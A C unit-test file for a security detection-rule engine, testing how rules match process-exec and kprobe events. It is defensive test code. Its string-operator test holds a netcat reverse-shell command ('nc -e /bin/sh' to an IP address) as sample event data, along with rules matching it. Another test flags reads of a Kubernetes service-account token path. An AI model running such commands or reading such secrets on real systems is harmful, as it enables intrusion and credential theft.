/* Unit tests of code generation and the VM: a rule's verdict on given events. */
#include "helpers.h"
#include <stdlib.h>
#include <string.h>

#define EXEC(bin, args, parent)                                                                    \
	"{\"process_exec\":{\"process\":{\"exec_id\":\"a:1:2\",\"pid\":2,\"uid\":1000,\"cwd\":\"/home/u\","   \
	"\"binary\":\"" bin "\",\"arguments\":\"" args "\",\"parent_exec_id\":\"a:1:1\"},"               \
	"\"parent\":{\"exec_id\":\"a:1:1\",\"pid\":1,\"binary\":\"" parent "\",\"arguments\":\"\"}},"   \
	"\"node_name\":\"n1\",\"time\":\"2026-10-14T10:00:00Z\"}"

static const char *verdict(const char *rules, const char *event)
{
	struct wt_ruleset *rs = th_compile(rules, NULL);
	assert_non_null(rs);
	struct wt_event *ev = th_event(event);
	assert_non_null(ev);
	static char out[1024];
	strcpy(out, th_matches(rs, ev));
	wt_event_release(ev);
	wt_ruleset_free(rs);
	return out;
}

static void test_string_operators(void **state)
{
	(void)state;
	const char *rules =
		"rule eq { on exec when process.binary == \"/usr/bin/nc\" severity low output \"x\" }\n"
		"rule ne { on exec when process.binary != \"/usr/bin/nc\" severity low output \"x\" }\n"
		"rule sw { on exec when process.binary startswith \"/usr/\" severity low output \"x\" }\n"
		"rule ew { on exec when process.binary endswith \"/nc\" severity low output \"x\" }\n"
		"rule co { on exec when process.args contains \"-e /bin\" severity low output \"x\" }\n"
		"rule ic { on exec when process.args icontains \"-E /BIN\" severity low output \"x\" }\n"
		"rule re { on exec when process.args regex \"^-e\\\\s\" severity low output \"x\" }\n"
		"rule bn { on exec when basename(process.binary) == \"nc\" severity low output \"x\" }\n"
		"rule dn { on exec when dirname(process.binary) == \"/usr/bin\" severity low output \"x\" }\n"
		"rule inl { on exec when process.basename in [\"ncat\", \"nc\"] severity low output \"x\" }\n"
		"rule nin { on exec when process.basename not in [\"ncat\", \"nc\"] severity low output \"x\" }\n";
	assert_string_equal(verdict(rules, EXEC("/usr/bin/nc", "-e /bin/sh 1.2.3.4 80", "/bin/bash")),
			    "eq sw ew co ic re bn dn inl");
	assert_string_equal(verdict(rules, EXEC("/bin/ls", "-la", "/bin/bash")), "ne nin");
}

static void test_ints_bools_and_logic(void **state)
{
	(void)state;
	const char *rules =
		"rule root { on exec when process.uid == 0 severity low output \"x\" }\n"
		"rule user { on exec when process.uid >= 1000 and process.uid < 60000 severity low output \"x\" }\n"
		"rule uids { on exec when process.uid in [0, 1000] severity low output \"x\" }\n"
		"rule either { on exec when process.uid == 0 or process.cwd == \"/home/u\" severity low output \"x\" }\n"
		"rule neg { on exec when not (process.uid == 0) severity low output \"x\" }\n"
		"rule ex { on exec when process.binary == \"/bin/ls\" except process.cwd startswith \"/home\" severity low output \"x\" }\n"
		"rule ex2 { on exec when process.binary == \"/bin/ls\" except process.uid == 0 except process.cwd == \"/nope\" severity low output \"x\" }\n"
		"rule exists_f { on exec when process.cwd exists and not (file.path exists) severity low output \"x\" }\n";
	assert_string_equal(verdict(rules, EXEC("/bin/ls", "", "/bin/bash")), "user uids either neg ex2 exists_f");
}

static void test_ancestors_any_element(void **state)
{
	(void)state;
	const char *rules =
		"rule anc { on exec when ancestors.basename in [\"sshd\"] severity low output \"x\" }\n"
		"rule anc2 { on exec when basename(ancestors.binary) == \"node\" severity low output \"x\" }\n";
	const char *ev = "{\"process_exec\":{\"process\":{\"exec_id\":\"x\",\"binary\":\"/bin/sh\"},"
			 "\"parent\":{\"exec_id\":\"p\",\"binary\":\"/usr/bin/node\"},"
			 "\"ancestors\":[{\"binary\":\"/usr/bin/node\"},{\"binary\":\"/usr/sbin/sshd\"}]},"
			 "\"time\":\"2026-01-01T00:00:00Z\"}";
	assert_string_equal(verdict(rules, ev), "anc anc2");
}

static void test_kprobe_fields(void **state)
{
	(void)state;
	const char *rules =
		"rule f { on kprobe when file.path startswith \"/run/secrets/\" severity low output \"x\" }\n"
		"rule s { on kprobe when args.string contains \"cron\" severity low output \"x\" }\n"
		"rule i { on kprobe when args.int == 2 severity low output \"x\" }\n"
		"rule n { on kprobe when sock.dport == 443 and sock.daddr == \"10.96.0.1\" severity low output \"x\" }\n"
		"rule m { on kprobe when module.tainted contains \"OUT_OF_TREE\" severity low output \"x\" }\n"
		"rule fn { on kprobe when kprobe.function == \"security_file_permission\" severity low output \"x\" }\n";
	const char *ev =
		"{\"process_kprobe\":{\"process\":{\"exec_id\":\"x\",\"binary\":\"/bin/cat\"},"
		"\"function_name\":\"security_file_permission\",\"args\":[{\"file_arg\":{\"path\":\"/run/secrets/kubernetes.io/serviceaccount/..2025/token\"}},"
		"{\"int_arg\":4},{\"string_arg\":\"/etc/cron.d/x\"},{\"size_arg\":\"2\"},"
		"{\"sock_arg\":{\"family\":\"AF_INET\",\"daddr\":\"10.96.0.1\",\"dport\":443}},"
		"{\"module_arg\":{\"name\":\"rk\",\"tainted\":[\"TAINT_OUT_OF_TREE_MODULE\"]}}],\"action\":\"KPROBE_ACTION_POST\"},"
		"\"time\":\"2026-01-01T00:00:00Z\"}";
	assert_string_equal(verdict(rules, ev), "f s i n m fn");
}

static void test_absent_fields_never_match(void **state)
{
	(void)state;
	const char *rules =
		"rule a { on kprobe when file.path startswith \"\" severity low output \"x\" }\n"
		"rule b { on kprobe when sock.dport == 0 severity low output \"x\" }\n";
	const char *ev = "{\"process_kprobe\":{\"process\":{\"exec_id\":\"x\",\"binary\":\"/bin/cat\"},"
			 "\"function_name\":\"f\",\"args\":[]},\"time\":\"2026-01-01T00:00:00Z\"}";
	assert_string_equal(verdict(rules, ev), "");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_string_operators),
		cmocka_unit_test(test_ints_bools_and_logic),
		cmocka_unit_test(test_ancestors_any_element),
		cmocka_unit_test(test_kprobe_fields),
		cmocka_unit_test(test_absent_fields_never_match),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
